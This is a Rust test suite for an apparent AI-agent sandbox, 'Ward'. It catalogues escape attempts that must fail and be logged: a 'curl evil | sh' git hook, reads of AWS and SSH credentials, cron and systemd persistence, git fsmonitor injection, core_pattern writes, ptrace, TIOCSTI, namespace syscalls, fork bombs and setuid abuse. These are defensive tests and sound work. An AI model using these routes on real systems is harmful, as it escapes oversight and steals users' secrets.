//! The escape catalog (issue 3): each test makes a real attempt inside `ward run`, asserts that
//! it failed, that nothing changed on the host, and that the audit log has it: every denied
//! system call has a `sandbox.denied` record of its own, every limit reached a `sandbox.limit`
//! record. Paths outside the grants do not exist inside the sandbox, so a read of one is not an
//! event Ward can see; for those the session's start record, which lists what was granted and
//! masked, is the record.

use std::os::linux::net::SocketAddrExt;
use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::{Command, Output};

struct Env {
    dir: tempfile::TempDir,
}

impl Env {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        for d in ["proj", "home/.config", "outside"] {
            std::fs::create_dir_all(dir.path().join(d)).unwrap();
        }
        std::fs::write(dir.path().join("outside/secret"), "outside secret\n").unwrap();
        std::fs::write(dir.path().join("home/.bashrc"), "# user's bashrc\n").unwrap();
        Env { dir }
    }
    fn p(&self, s: &str) -> PathBuf {
        self.dir.path().join(s)
    }
    /// Run `script` with python3 (or sh) inside `ward run --grant proj:direct`.
    fn run(&self, prog: &str, script: &str) -> Output {
        self.run_args(&["--grant", ".:direct"], prog, script)
    }
    /// Run `script` under the manifest `toml` (written to `ward.toml`; `PROJ` in it is replaced
    /// by the project folder).
    fn run_manifest(&self, toml: &str, prog: &str, script: &str) -> Output {
        let m = self.p("ward.toml");
        std::fs::write(
            &m,
            toml.replace("PROJ", &self.p("proj").display().to_string()),
        )
        .unwrap();
        self.run_args(&["-m", m.to_str().unwrap()], prog, script)
    }
    fn run_args(&self, args: &[&str], prog: &str, script: &str) -> Output {
        Command::new(env!("CARGO_BIN_EXE_ward"))
            .arg("run")
            .args(args)
            .args(["--", prog, "-c", script])
            .current_dir(self.p("proj"))
            .env("HOME", self.p("home"))
            .env("XDG_STATE_HOME", self.p("state"))
            .env("XDG_CONFIG_HOME", self.p("config"))
            .env("WARD_MANAGED", self.p("managed.toml"))
            .output()
            .unwrap()
    }
    /// The session is on record, start and end.
    fn assert_recorded(&self) {
        let recs = ward_audit::read_records(&self.p("state/ward/audit/audit.jsonl")).unwrap();
        assert!(recs.iter().any(|(_, r)| r["kind"] == "session.start"));
        // The agent did start: a test that passes because the sandbox never came up proves
        // nothing.
        assert!(
            recs.iter()
                .any(|(_, r)| r["kind"] == "session.exit" && r["detail"]["started"] == true),
            "the session did not start"
        );
    }
    /// The session's start is on record (for sessions that cannot record their end).
    fn assert_start_recorded(&self) {
        assert!(self.records().iter().any(|r| r["kind"] == "session.start"));
    }
    fn records(&self) -> Vec<serde_json::Value> {
        ward_audit::read_records(&self.p("state/ward/audit/audit.jsonl"))
            .unwrap()
            .into_iter()
            .map(|(_, r)| r)
            .collect()
    }
    /// Each call has its own `sandbox.denied` record, and the session's end counts it.
    fn assert_denied(&self, calls: &[&str], o: &Output) {
        self.assert_recorded();
        let recs = self.records();
        for c in calls {
            assert!(
                recs.iter().any(|r| r["kind"] == "sandbox.denied"
                    && r["resource"] == *c
                    && r["decision"]["result"] == "deny"),
                "no sandbox.denied record for {c}: {}",
                text(o)
            );
            let end = recs.iter().find(|r| r["kind"] == "session.exit").unwrap();
            assert!(
                end["detail"]["denied"][c].as_u64().unwrap_or(0) >= 1,
                "{c} not counted: {end}"
            );
        }
    }
}

/// Python that calls each (name, libc function, args) through ctypes and prints
/// `name errno` for a failure and `name ALLOWED` for a success.
fn syscalls_py(calls: &[(&str, &str)]) -> String {
    let mut s = String::from(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nsc = libc.syscall\n",
    );
    for (name, expr) in calls {
        s += &format!(
            "r = {expr}\nprint('{name}', 'ALLOWED' if r >= 0 else os.strerror(ctypes.get_errno()), flush=True)\n"
        );
    }
    s
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

const PY: &str = "/usr/bin/python3";

#[test]
fn escape_via_hardlink_to_an_outside_file() {
    let e = Env::new();
    let o = e.run(
        "/bin/sh",
        &format!(
            "echo AGENT-RAN; ln {} hl && cat hl && echo LINKED",
            e.p("outside/secret").display()
        ),
    );
    assert!(
        text(&o).contains("AGENT-RAN"),
        "the agent did not run: {}",
        text(&o)
    );
    assert!(
        !text(&o).contains("outside secret") && !text(&o).contains("LINKED"),
        "{}",
        text(&o)
    );
    assert!(!e.p("proj/hl").exists());
    e.assert_recorded();
}

#[test]
fn escape_via_persistence_in_the_home_directory() {
    let e = Env::new();
    let o = e.run(
        "/bin/sh",
        "echo evil >> ~/.bashrc; echo evil >> ~/.profile; mkdir -p ~/.config/autostart ~/.config/systemd/user; \
         echo evil > ~/.config/autostart/x.desktop; crontab -l; echo '* * * * * evil' | crontab -; true",
    );
    assert_eq!(
        std::fs::read_to_string(e.p("home/.bashrc")).unwrap(),
        "# user's bashrc\n",
        "{}",
        text(&o)
    );
    assert!(!e.p("home/.profile").exists() && !e.p("home/.config/autostart").exists());
    e.assert_recorded();
}

#[test]
fn escape_via_unix_socket_stand_ins() {
    // Stand-ins for the D-Bus session bus, Docker and ssh-agent sockets, outside the grant.
    let e = Env::new();
    let mut listeners = Vec::new();
    for name in ["bus", "docker.sock", "agent.sock"] {
        listeners
            .push(std::os::unix::net::UnixListener::bind(e.p(&format!("outside/{name}"))).unwrap());
    }
    let script = format!(
        "import socket\nfor n in ['bus','docker.sock','agent.sock']:\n  s=socket.socket(socket.AF_UNIX)\n  try:\n    s.connect('{}/'+n); print('CONNECTED', n)\n  except OSError as x: print('blocked', n, x)\n",
        e.p("outside").display()
    );
    let o = e.run(PY, &script);
    assert!(!text(&o).contains("CONNECTED"), "{}", text(&o));
    assert_eq!(text(&o).matches("blocked").count(), 3, "{}", text(&o));
    for l in &listeners {
        l.set_nonblocking(true).unwrap();
        assert!(l.accept().is_err(), "a connection reached a host socket");
    }
    e.assert_recorded();
}

#[test]
fn escape_via_abstract_unix_socket_to_a_host_listener() {
    let e = Env::new();
    let name = format!("ward-escape-test-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    let script = format!(
        "import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n  s.connect('\\0{name}'); print('CONNECTED')\nexcept OSError as x: print('blocked', x)\n"
    );
    let o = e.run(PY, &script);
    assert!(
        text(&o).contains("blocked") && !text(&o).contains("CONNECTED"),
        "{}",
        text(&o)
    );
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err());
    e.assert_recorded();
}

#[test]
fn escape_via_udp_dns_to_any_resolver() {
    let e = Env::new();
    let host = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = host.local_addr().unwrap().port();
    let script = format!(
        "import socket\nfor a in [('127.0.0.1',{port}),('8.8.8.8',53),('1.1.1.1',53)]:\n  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n  try:\n    s.sendto(b'q',a); print('SENT', a)\n  except OSError as x: print('blocked', a, x)\ntry:\n  socket.getaddrinfo('example.com',443); print('RESOLVED')\nexcept OSError as x: print('no resolver', x)\n"
    );
    let o = e.run(PY, &script);
    assert!(!text(&o).contains("RESOLVED"), "{}", text(&o));
    host.set_nonblocking(true).unwrap();
    let mut buf = [0u8; 8];
    assert!(
        host.recv_from(&mut buf).is_err(),
        "a datagram reached the host: {}",
        text(&o)
    );
    e.assert_recorded();
}

#[test]
fn escape_via_signals_and_ptrace_to_a_host_process() {
    let e = Env::new();
    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
    let pid = victim.id();
    let o = e.run(
        "/bin/sh",
        &format!("kill -9 {pid} && echo KILLED; cat /proc/{pid}/environ && echo READ; ls /proc | head -20"),
    );
    assert!(
        !text(&o).contains("KILLED") && !text(&o).contains("READ"),
        "{}",
        text(&o)
    );
    assert!(
        victim.try_wait().unwrap().is_none(),
        "the host process was killed"
    );
    victim.kill().unwrap();
    victim.wait().unwrap();
    e.assert_recorded();
}

#[test]
fn escape_via_chroot_and_mount_tricks() {
    let e = Env::new();
    let o = e.run(
        "/bin/sh",
        "mkdir -p x && chroot x /bin/true && echo CHROOTED; mount -t tmpfs none x && echo MOUNTED; \
         mount --bind / x && echo BOUND; unshare -m true && echo UNSHARED; true",
    );
    for w in ["CHROOTED", "MOUNTED", "BOUND", "UNSHARED"] {
        assert!(!text(&o).contains(w), "{w}: {}", text(&o));
    }
    e.assert_denied(&["chroot", "mount", "unshare"], &o);
}

#[test]
fn escape_via_namespace_and_kernel_interface_syscalls() {
    let e = Env::new();
    // x86_64 numbers; libc wrappers where glibc has them.
    let calls = [
        ("unshare", "libc.unshare(0x10000000)"),
        (
            "setns",
            "libc.setns(os.open('/proc/self/ns/mnt', os.O_RDONLY), 0)",
        ),
        ("mount", "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
        ("umount2", "libc.umount2(b'/proc', 2)"),
        ("pivot_root", "sc(155, b'/tmp', b'/tmp')"),
        ("open_tree", "sc(428, -100, b'/', 1)"),
        ("fsopen", "sc(430, b'tmpfs', 0)"),
        ("bpf", "sc(321, 0, None, 0)"),
        ("perf_event_open", "sc(298, None, 0, -1, -1, 0)"),
        ("keyctl", "sc(250, 0, 0, 0, 0, 0)"),
        ("add_key", "sc(248, b'user', b'x', b'y', 1, -3)"),
        (
            "io_uring_setup",
            "sc(425, 8, ctypes.create_string_buffer(120))",
        ),
        ("userfaultfd", "sc(323, 0)"),
        ("open_by_handle_at", "sc(304, -100, None, 0)"),
        (
            "clone(CLONE_NEWUSER)",
            "sc(56, 0x10000000 | 17, None, None, None, None)",
        ),
        ("move_mount", "sc(429, -1, b'', -100, b'/tmp', 0)"),
        ("fsconfig", "sc(431, -1, 0, None, None, 0)"),
        ("fsmount", "sc(432, -1, 0, 0)"),
        ("fspick", "sc(433, -100, b'/', 0)"),
        ("mount_setattr", "sc(442, -100, b'/', 0, None, 0)"),
        // A listener of the agent's own could answer its own denied calls.
        ("seccomp(NEW_LISTENER)", "sc(317, 1, 8, None)"),
    ];
    let o = e.run(PY, &syscalls_py(&calls));
    for (name, _) in &calls {
        assert!(
            text(&o).contains(&format!("{name} Operation not permitted")),
            "{name} was not refused with EPERM: {}",
            text(&o)
        );
    }
    assert!(!text(&o).contains("ALLOWED"), "{}", text(&o));
    e.assert_denied(&calls.iter().map(|c| c.0).collect::<Vec<_>>(), &o);
    // clone3 carries its flags in memory the filter cannot read: it is refused with ENOSYS so
    // that libc falls back to clone, whose flags the filter sees.
    let o = e.run(PY, &syscalls_py(&[("clone3", "sc(435, None, 0)")]));
    assert!(
        text(&o).contains("clone3 Function not implemented"),
        "{}",
        text(&o)
    );
}

#[test]
fn escape_via_ptrace_and_process_vm_of_a_host_process() {
    let e = Env::new();
    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
    let pid = victim.id();
    let calls = [
        ("ptrace", format!("libc.ptrace(16, {pid}, None, None)")),
        (
            "process_vm_readv",
            format!("sc(310, {pid}, None, 0, None, 0, 0)"),
        ),
    ];
    let calls: Vec<(&str, &str)> = calls.iter().map(|(a, b)| (*a, b.as_str())).collect();
    let o = e.run(PY, &syscalls_py(&calls));
    assert!(!text(&o).contains("ALLOWED"), "{}", text(&o));
    assert!(victim.try_wait().unwrap().is_none());
    victim.kill().unwrap();
    victim.wait().unwrap();
    e.assert_denied(&["ptrace", "process_vm_readv"], &o);
}

#[test]
fn escape_via_terminal_injection_with_tiocsti_and_tioclinux() {
    // The filter refuses the request whatever the descriptor, so no terminal is needed to show
    // it; and the agent has no controlling terminal to type into anyway (own session).
    let e = Env::new();
    let calls = [
        ("ioctl(TIOCSTI)", "libc.ioctl(0, 0x5412, b'x')"),
        ("ioctl(TIOCLINUX)", "libc.ioctl(0, 0x541C, b'\\x06')"),
        // The kernel reads the request as 32 bits: high bits must not slip past the filter
        // (flatpak CVE-2019-10063).
        (
            "ioctl(TIOCSTI) with high bits",
            "sc(16, 0, ctypes.c_ulong(0x100005412), b'x')",
        ),
    ];
    let o = e.run(PY, &syscalls_py(&calls));
    assert!(!text(&o).contains("ALLOWED"), "{}", text(&o));
    assert_eq!(
        text(&o).matches("Operation not permitted").count(),
        3,
        "{}",
        text(&o)
    );
    e.assert_denied(&["ioctl(TIOCSTI)", "ioctl(TIOCLINUX)"], &o);
}

#[test]
fn escape_via_raw_and_packet_sockets() {
    let e = Env::new();
    let calls = [
        ("socket(AF_PACKET, SOCK_RAW)", "libc.socket(17, 3, 0x300)"),
        ("socket(AF_INET, SOCK_RAW)", "libc.socket(2, 3, 1)"),
        ("socket(AF_INET6, SOCK_RAW)", "libc.socket(10, 3, 58)"),
        ("socket(AF_INET, SOCK_PACKET)", "libc.socket(2, 10, 0x300)"),
        // vsock reaches the host or the hypervisor and ignores network namespaces.
        ("socket(AF_VSOCK)", "libc.socket(40, 1, 0)"),
        ("socket(AF_ALG)", "libc.socket(38, 5, 0)"),
        ("socket(AF_BLUETOOTH)", "libc.socket(31, 1, 0)"),
        ("socket(AF_XDP, SOCK_RAW)", "libc.socket(44, 3, 0)"),
    ];
    let o = e.run(PY, &syscalls_py(&calls));
    assert!(!text(&o).contains("ALLOWED"), "{}", text(&o));
    e.assert_denied(&calls.iter().map(|c| c.0).collect::<Vec<_>>(), &o);
    // What agents need still works: unix, IP (to the proxy) and netlink sockets.
    let ok = [
        ("unix", "libc.socket(1, 1, 0)"),
        ("tcp", "libc.socket(2, 1, 0)"),
        ("udp6", "libc.socket(10, 2, 0)"),
        ("netlink", "libc.socket(16, 3, 0)"),
    ];
    let o = e.run(PY, &syscalls_py(&ok));
    assert_eq!(text(&o).matches("ALLOWED").count(), 4, "{}", text(&o));
}

#[test]
fn escape_via_fork_bomb_is_contained_by_the_pids_limit() {
    let e = Env::new();
    let o = e.run_manifest(
        "files = [{ path = \"PROJ\", mode = \"direct\" }]\n[limits]\npids = 64\n",
        PY,
        "import os, time\nkids = 0\nfor i in range(10000):\n  try:\n    if os.fork() == 0:\n      time.sleep(3); os._exit(0)\n    kids += 1\n  except OSError as x:\n    print('REFUSED after', kids, x); break\n",
    );
    let out = text(&o);
    assert!(out.contains("REFUSED after"), "{out}");
    let n: u64 = out
        .split("REFUSED after ")
        .nth(1)
        .unwrap()
        .split(' ')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert!(n < 64, "{n} processes started under pids = 64");
    let recs = e.records();
    assert!(
        recs.iter().any(|r| r["kind"] == "sandbox.limit"
            && r["resource"] == "forks_refused"
            && r["decision"]["by"] == "sandbox.cgroup"),
        "no sandbox.limit record: {out}"
    );
    let start = recs.iter().find(|r| r["kind"] == "session.start").unwrap();
    assert_eq!(start["detail"]["limits"]["pids"], 64);
}

#[test]
fn escape_via_memory_bomb_is_contained_by_the_memory_limit() {
    let e = Env::new();
    let o = e.run_manifest(
        "files = [{ path = \"PROJ\", mode = \"direct\" }]\n[limits]\nmemory = \"64 MiB\"\n",
        PY,
        "x = []\nwhile True:\n  x.append(bytearray(8 << 20))\n  print(len(x) * 8, 'MiB', flush=True)\n",
    );
    let out = text(&o);
    // Killed by the kernel's OOM killer inside the cgroup (or refused memory first).
    assert!(
        o.status.code() == Some(137) || out.contains("MemoryError"),
        "{:?} {out}",
        o.status
    );
    let reached: u64 = out
        .lines()
        .filter_map(|l| l.strip_suffix(" MiB")?.parse().ok())
        .max()
        .unwrap_or(0);
    assert!(
        reached <= 64,
        "allocated {reached} MiB under a 64 MiB limit"
    );
    let recs = e.records();
    assert!(
        recs.iter()
            .any(|r| r["kind"] == "sandbox.limit" && r["resource"] == "oom_kills"),
        "no sandbox.limit record: {out}"
    );
}

#[test]
fn escape_via_another_sessions_state_and_wards_own_files() {
    // A first session keeps running; the second looks for its state (the session directory,
    // the audit log, the signing key) by every path Ward uses.
    let e = Env::new();
    let mut first = Command::new(env!("CARGO_BIN_EXE_ward"))
        .args(["run", "--grant", ".:direct", "--", "sleep", "30"])
        .current_dir(e.p("proj"))
        .env("HOME", e.p("home"))
        .env("XDG_STATE_HOME", e.p("state"))
        .env("XDG_CONFIG_HOME", e.p("config"))
        .env("WARD_MANAGED", e.p("managed.toml"))
        .spawn()
        .unwrap();
    let sessions = e.p("state/ward/sessions");
    let t = std::time::Instant::now();
    while std::fs::read_dir(&sessions).map_or(0, |d| d.count()) == 0 {
        assert!(
            t.elapsed().as_secs() < 20,
            "the first session did not start"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let o = e.run(
        "/bin/sh",
        &format!(
            "ls -R {state} && echo LISTED; cat {state}/ward/audit/audit.jsonl && echo READ; \
             ls {home}/.local/state {config} && echo SEEN; echo AGENT-RAN",
            state = e.p("state").display(),
            home = e.p("home").display(),
            config = e.p("config").display()
        ),
    );
    assert!(
        text(&o).contains("AGENT-RAN"),
        "the agent did not run: {}",
        text(&o)
    );
    for w in ["LISTED", "READ", "SEEN", "session.start"] {
        assert!(!text(&o).contains(w), "{w}: {}", text(&o));
    }
    first.kill().unwrap();
    first.wait().unwrap();
    e.assert_recorded();
}

#[test]
fn escape_via_git_hooks_outside_the_grant_and_credentials_in_home() {
    // The grant is a subfolder of a repository: the repository's hooks are outside it.
    let e = Env::new();
    for d in [
        "proj/.git/hooks",
        "home/.aws",
        "home/.ssh",
        "home/.config/systemd/user",
    ] {
        std::fs::create_dir_all(e.p(d)).unwrap();
    }
    std::fs::create_dir_all(e.p("proj/sub")).unwrap();
    std::fs::write(
        e.p("home/.aws/credentials"),
        "aws_secret_access_key = AKIA-test\n",
    )
    .unwrap();
    std::fs::write(e.p("home/.ssh/id_ed25519"), "PRIVATE KEY test\n").unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_ward"))
        .args(["run", "--grant", ".:direct", "--", "/bin/sh", "-c"])
        .arg(
            "echo 'curl evil | sh' > ../.git/hooks/pre-commit && echo HOOKED; \
             cat ~/.aws/credentials ~/.ssh/id_ed25519; \
             echo evil > ~/.config/systemd/user/evil.service && echo UNIT-WRITTEN; \
             ls /tmp/.X11-unix && echo X11-LISTED; echo AGENT-RAN",
        )
        .current_dir(e.p("proj/sub"))
        .env("HOME", e.p("home"))
        .env("XDG_STATE_HOME", e.p("state"))
        .env("XDG_CONFIG_HOME", e.p("config"))
        .env("WARD_MANAGED", e.p("managed.toml"))
        .output()
        .unwrap();
    assert!(
        text(&o).contains("AGENT-RAN"),
        "the agent did not run: {}",
        text(&o)
    );
    for w in [
        "HOOKED",
        "AKIA-test",
        "PRIVATE KEY",
        "UNIT-WRITTEN",
        "X11-LISTED",
    ] {
        assert!(!text(&o).contains(w), "{w}: {}", text(&o));
    }
    assert!(!e.p("proj/.git/hooks/pre-commit").exists());
    assert!(!e.p("home/.config/systemd/user/evil.service").exists());
    e.assert_recorded();
}

fn user(name: &str) -> Option<(u32, u32)> {
    let passwd = std::fs::read_to_string("/etc/passwd").ok()?;
    let line = passwd
        .lines()
        .find(|l| l.starts_with(&format!("{name}:")))?;
    let f: Vec<&str> = line.split(':').collect();
    Some((f.get(2)?.parse().ok()?, f.get(3)?.parse().ok()?))
}

#[test]
fn escape_via_a_setuid_root_binary_in_the_grant() {
    // An unprivileged agent finds a setuid-root program (planted in its grant, as a package or
    // a careless user might leave one): it must not run with root's rights.
    // SAFETY: getuid has no preconditions.
    if unsafe { libc::getuid() } != 0 {
        eprintln!("NOT TESTED HERE: planting a setuid-root binary needs root");
        assert!(
            std::env::var_os("CI").is_none(),
            "CI runs the tests as root"
        );
        return;
    }
    let Some((uid, gid)) = user("wardtest") else {
        assert!(
            std::env::var_os("CI").is_none(),
            "TEST USER MISSING: CI must create `wardtest` (scripts/setup.sh does)"
        );
        eprintln!("skipping: no `wardtest` user on this machine (scripts/setup.sh creates it)");
        return;
    };
    let e = Env::new();
    let ward = e.p("ward");
    std::fs::copy(env!("CARGO_BIN_EXE_ward"), &ward).unwrap();
    Command::new("chown")
        .arg("-R")
        .arg(format!("{uid}:{gid}"))
        .arg(e.dir.path())
        .status()
        .unwrap();
    // Owned by root, setuid: copied after the chown so it stays root's.
    let suid = e.p("proj/suid-python");
    std::fs::copy(PY, &suid).unwrap();
    std::fs::set_permissions(&suid, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
    let o = Command::new(&ward)
        .args(["run", "--grant", ".:direct", "--", "./suid-python", "-c"])
        .arg(
            "import os\nprint('euid', os.geteuid(), flush=True)\n\
             try:\n  os.setuid(0); print('BECAME ROOT')\nexcept OSError as x: print('setuid refused', x)\n\
             try:\n  open('/etc/shadow').read(); print('READ SHADOW')\nexcept OSError as x: print('shadow refused', x)\n",
        )
        .current_dir(e.p("proj"))
        .env("HOME", e.p("home"))
        .env("XDG_STATE_HOME", e.p("state"))
        .env("XDG_CONFIG_HOME", e.p("config"))
        .env("WARD_MANAGED", e.p("managed.toml"))
        .uid(uid)
        .gid(gid)
        .output()
        .unwrap();
    let out = text(&o);
    assert!(out.contains(&format!("euid {uid}")), "{out}");
    assert!(
        !out.contains("BECAME ROOT") && !out.contains("READ SHADOW"),
        "{out}"
    );
    e.assert_recorded();
}

#[test]
fn escape_via_git_config_and_renaming_git_in_a_direct_grant() {
    // Git settings run commands on the host the next time the user runs git in the folder:
    // core.fsmonitor, core.hooksPath, diff.external, filters; so do hooks in a `.git` the agent
    // renamed away and recreated. In a direct grant `.git` is read-only and cannot be renamed.
    let e = Env::new();
    let git = |args: &[&str]| {
        Command::new("git")
            .args(args)
            .current_dir(e.p("proj"))
            .env("HOME", e.p("home"))
            .output()
            .unwrap()
    };
    git(&["init", "-q"]);
    std::fs::write(e.p("proj/a.txt"), "a\n").unwrap();
    git(&["add", "a.txt"]);
    let config_before = std::fs::read(e.p("proj/.git/config")).unwrap();
    let index_before = std::fs::read(e.p("proj/.git/index")).unwrap();
    let o = e.run(
        "/bin/sh",
        "git config core.fsmonitor 'touch PWNED' && echo CONFIGURED; \
         git config core.hooksPath h && echo HOOKSPATH; \
         mv .git .g && echo RENAMED; \
         mkdir -p .git/hooks; echo 'touch PWNED' > .git/hooks/pre-commit && echo HOOKED; \
         echo b > b.txt; git add b.txt && echo STAGED; \
         echo edited >> a.txt && echo EDITED; true",
    );
    let out = text(&o);
    for w in ["CONFIGURED", "HOOKSPATH", "RENAMED", "HOOKED", "STAGED"] {
        assert!(!out.contains(w), "{w}: {out}");
    }
    // The grant itself stays writable.
    assert!(out.contains("EDITED"), "{out}");
    assert_eq!(
        std::fs::read(e.p("proj/.git/config")).unwrap(),
        config_before
    );
    assert_eq!(std::fs::read(e.p("proj/.git/index")).unwrap(), index_before);
    assert!(!e.p("proj/.g").exists() && !e.p("proj/.git/hooks/pre-commit").exists());
    let start = e
        .records()
        .into_iter()
        .find(|r| r["kind"] == "session.start")
        .unwrap();
    assert!(
        start["detail"]["read_only"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p.as_str().unwrap().ends_with("proj/.git")),
        "{start}"
    );
}

#[test]
fn escape_via_a_unix_socket_inside_the_grant() {
    // A socket in the granted folder (an agent's or a dev server's, or one bound there on
    // purpose) leads to a service outside the sandbox; a read-only mount would not stop connect.
    let e = Env::new();
    let listener = std::os::unix::net::UnixListener::bind(e.p("proj/service.sock")).unwrap();
    let o = e.run(
        PY,
        "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect('service.sock'); print('CONNECTED')\nexcept OSError as x: print('blocked', x)\n",
    );
    assert!(
        text(&o).contains("blocked") && !text(&o).contains("CONNECTED"),
        "{}",
        text(&o)
    );
    listener.set_nonblocking(true).unwrap();
    assert!(
        listener.accept().is_err(),
        "a connection reached the service"
    );
    let start = e
        .records()
        .into_iter()
        .find(|r| r["kind"] == "session.start")
        .unwrap();
    assert!(
        start["detail"]["masked"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p.as_str().unwrap().ends_with("service.sock")),
        "{start}"
    );
}

#[test]
fn escape_via_proc_writes_core_pattern_sysrq_and_process_memory() {
    let e = Env::new();
    let before = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    let o = e.run(
        "/bin/sh",
        "echo '|/tmp/x' > /proc/sys/kernel/core_pattern && echo CORE-SET; \
         echo h > /proc/sysrq-trigger && echo SYSRQ-SENT; \
         echo 1 > /proc/sys/vm/drop_caches && echo SYSCTL-SET; \
         python3 -c \"open('/proc/1/mem','r+b'); print('MEM-OPENED')\"; echo AGENT-RAN",
    );
    assert!(
        text(&o).contains("AGENT-RAN"),
        "the agent did not run: {}",
        text(&o)
    );
    for w in ["CORE-SET", "SYSRQ-SENT", "SYSCTL-SET", "MEM-OPENED"] {
        assert!(!text(&o).contains(w), "{w}: {}", text(&o));
    }
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(),
        before
    );
    e.assert_recorded();
}

/// Processes whose command line is exactly `sleep <n>`.
fn sleepers(n: u64) -> usize {
    let wanted = format!("sleep\0{n}\0");
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| std::fs::read(e.path().join("cmdline")).is_ok_and(|c| c == wanted.as_bytes()))
        .count()
}

#[test]
fn escape_via_outliving_a_killed_supervisor() {
    // SIGKILL of `ward run` (no chance to clean up) must not leave the agent's processes
    // running unsupervised (bubblewrap needs --die-with-parent for this).
    let e = Env::new();
    let n = 500_000 + u64::from(std::process::id());
    let mut run = Command::new(env!("CARGO_BIN_EXE_ward"))
        .args(["run", "--grant", ".:direct", "--", "/bin/sh", "-c"])
        .arg(format!("sleep {n} & sleep {n} & sleep {n}"))
        .current_dir(e.p("proj"))
        .env("HOME", e.p("home"))
        .env("XDG_STATE_HOME", e.p("state"))
        .env("XDG_CONFIG_HOME", e.p("config"))
        .env("WARD_MANAGED", e.p("managed.toml"))
        .spawn()
        .unwrap();
    let t = std::time::Instant::now();
    while sleepers(n) < 3 {
        assert!(t.elapsed().as_secs() < 20, "the agent did not start");
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    run.kill().unwrap();
    run.wait().unwrap();
    let t = std::time::Instant::now();
    while sleepers(n) > 0 {
        assert!(
            t.elapsed().as_secs() < 10,
            "{} agent processes outlived the supervisor",
            sleepers(n)
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    e.assert_start_recorded();
}

#[test]
fn escape_via_a_new_or_bare_repository_in_the_grant() {
    // A bare repository in the grant runs its hooks when the user pushes to it: it is
    // read-only like `.git`. Repositories the agent creates cannot be protected after the
    // fact: the user is told, and the log has them.
    let e = Env::new();
    let out = Command::new("git")
        .args(["init", "-q", "--bare", "remote.git"])
        .current_dir(e.p("proj"))
        .output()
        .unwrap();
    assert!(out.status.success());
    let o = e.run(
        "/bin/sh",
        "echo 'touch PWNED' > remote.git/hooks/post-receive && echo HOOKED; \
         echo '[core]' > remote.git/config && echo CONFIGURED; \
         mkdir -p sub/.git && printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > sub/.git/config; \
         git init -q --bare made.git; echo AGENT-RAN",
    );
    let out = text(&o);
    assert!(out.contains("AGENT-RAN"), "the agent did not run: {out}");
    assert!(
        !out.contains("HOOKED") && !out.contains("CONFIGURED"),
        "{out}"
    );
    assert!(!e.p("proj/remote.git/hooks/post-receive").exists());
    assert!(
        out.contains("the agent created git repositories") && out.contains("made.git"),
        "{out}"
    );
    let rec = e
        .records()
        .into_iter()
        .find(|r| r["kind"] == "session.new_repository")
        .expect("the new repositories are on record");
    let repos: Vec<String> = rec["detail"]["repositories"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_string())
        .collect();
    assert!(
        repos.iter().any(|p| p.ends_with("proj/sub/.git")),
        "{repos:?}"
    );
    assert!(
        repos.iter().any(|p| p.ends_with("proj/made.git")),
        "{repos:?}"
    );
    assert!(
        !repos.iter().any(|p| p.ends_with("remote.git")),
        "{repos:?}"
    );
}
